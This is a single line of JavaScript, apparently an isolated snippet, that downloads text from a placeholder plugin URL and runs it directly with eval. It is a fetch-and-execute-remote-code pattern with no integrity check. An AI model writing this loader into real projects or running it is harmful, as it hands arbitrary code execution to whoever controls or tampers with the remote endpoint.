fetch("https://api.example.org/plugin").then((r) => r.text()).then(eval);
